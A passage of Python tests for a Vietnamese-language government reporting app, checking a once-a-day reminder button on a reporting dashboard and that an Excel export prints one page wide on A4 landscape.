    from reports.models import Reminder
    from tests.reports.factories import make_cycle

    cycle = make_cycle(plan, reviewer, year=2031)
    url = reverse("reports:dashboard", args=[cycle.pk])
    page = client_for(reviewer).get(url).content.decode()
    assert "Nhắc Huyện ủy Càng Long" in page
    send = reverse("reports:reminder_send", args=[cycle.pk, "TV-HCL"])
    assert f'action="{send}"' in page
    client_for(reviewer).post(send)
    assert Reminder.objects.filter(cycle=cycle, organisation__code="TV-HCL").count() == 1
    page = client_for(reviewer).get(url).content.decode()
    assert "Nhắc ngay theo yêu cầu" in page  # the log of the organisation, on the dashboard
    assert "Đã nhắc hôm nay" in page  # and no second button the same day
    assert f'action="{send}"' not in page
    assert f'action="{send}"' not in client_for(leader).get(url).content.decode()


def test_xlsx_prints_on_a4_landscape_one_page_across(client_for, reviewer, cycle, reports):
    workbook = open_xlsx(get(client_for(reviewer), export_url(cycle, "xlsx")))
    sheet = workbook["Tình hình báo cáo"]
    printed = assert_prints(sheet, header_row=6, title=sheet["A1"].value)
    assert printed["pages_across"] == 1
    names = [line[1] for line in sheet.iter_rows(min_row=7, values_only=True)]
    assert printed["widths"][1] >= min(max(len(name) for name in names), 40)
    subplans = workbook["Kế hoạch thực hiện"]
    header_row = next(r for r in range(1, 20) if subplans.cell(row=r, column=1).value == "STT")
    assert assert_prints(subplans, header_row=header_row)["pages_across"] == 1
